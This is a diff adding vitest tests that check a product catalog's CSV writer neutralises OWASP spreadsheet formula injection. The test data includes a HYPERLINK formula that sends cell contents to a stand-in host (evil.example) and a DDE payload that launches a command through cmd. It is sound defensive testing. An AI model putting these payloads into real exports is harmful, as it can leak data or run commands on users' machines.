@@ -1,3 +1,4 @@
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { parseCsv, toCsv } from '../../shared/catalog/csv'
 import { parseProductCsv, productsToCsv } from '../../shared/catalog/product-csv'
@@ -36,6 +37,65 @@ describe('parseCsv / toCsv', () => {
   })
 })
 
+/** A written one-cell line as a spreadsheet reads the cell: unquoted, quotes unescaped. */
+const spreadsheetCell = (line: string) => {
+  const cell = line.replace(/\r\n$/, '')
+  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell
+}
+
+describe('CSV formula injection (OWASP)', () => {
+  it.each(['=', '+', '-', '@', '\t', '\r'])('writes a text cell starting with %j as quoted text after a single quote', (c) => {
+    const cell = `${c}1+2`
+    expect(toCsv([[cell, 'ok']])).toBe(`"'${c}1+2",ok\r\n`)
+    expect(parseCsv(toCsv([[cell, 'ok']]))).toEqual([[cell, 'ok']])
+  })
+
+  it('neutralises a real payload and keeps its quotes intact', () => {
+    const payload = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    expect(toCsv([[payload]])).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"\r\n`)
+    expect(parseCsv(toCsv([[payload]]))).toEqual([[payload]])
+  })
+
+  it('keeps apostrophes that were already there, and writes numbers as numbers', () => {
+    expect(toCsv([["'=x", "'plain", "'", "''"]])).toBe(`"''=x",'plain,',''\r\n`)
+    expect(parseCsv(toCsv([["'=x", "'plain", "'", "''"]]))).toEqual([["'=x", "'plain", "'", "''"]])
+    expect(toCsv([[-5, 0, 12.5]])).toBe('-5,0,12.5\r\n')
+  })
+
+  it('reads a leading single quote before a formula character as the writer’s, quoted or not', () => {
+    expect(parseCsv(`'=1+2,"'-3",'@x,'a,"''+b"`)).toEqual([['=1+2', '-3', '@x', "'a", "'+b"]])
+  })
+
+  const cellText = fc.string({
+    unit: fc.oneof(
+      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ',', ' ', 'a', '1', 'é'),
+      fc.string({ unit: 'binary', maxLength: 1 }),
+    ),
+    maxLength: 12,
+  })
+
+  it('round-trips every table of text (property)', () => {
+    // the parser drops blank rows, so each row starts with a non-blank cell
+    const table = fc.array(
+      fc.array(cellText, { maxLength: 5 }).map((cells) => ['k', ...cells]),
+      { maxLength: 5 },
+    )
+    fc.assert(
+      fc.property(table, (rows) => {
+        expect(parseCsv(toCsv(rows))).toEqual(rows)
+      }),
+    )
+  })
+
+  it('never writes a cell a spreadsheet would run as a formula (property)', () => {
+    fc.assert(
+      fc.property(cellText, (cell) => {
+        expect(spreadsheetCell(toCsv([[cell]]))).not.toMatch(/^[=+\-@\t\r]/)
+      }),
+    )
+  })
+})
+
 describe('parseProductCsv', () => {
   it('parses protocols split by | or ; with friendly aliases', () => {
     const [p] = parseProductCsv(`${CSV_HEADER}\nA-1,Hub,lighting-control,100,90,active,Matter|Thread; WiFi;zwave,2,,`)
@@ -71,6 +131,15 @@ describe('parseProductCsv', () => {
   it('exports what it imports', () => {
     const product = newProduct({ ...input, description: 'Says "hi", twice', protocols: ['matter', 'thread'] }, now)
     const [back] = parseProductCsv(productsToCsv([product]))
+    expect(sameAsStored(product, back!)).toBe(true)
+  })
+
+  it('exports formula-like text as text that imports back unchanged', () => {
+    const product = newProduct({ ...input, name: '@SUM(A1:A9)', description: "=cmd|' /C calc'!A0" }, now)
+    const csv = productsToCsv([product])
+    expect(csv).toContain(`"'@SUM(A1:A9)"`)
+    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`)
+    const [back] = parseProductCsv(csv)
     expect(sameAsStored(product, back!)).toBe(true)
   })
 })
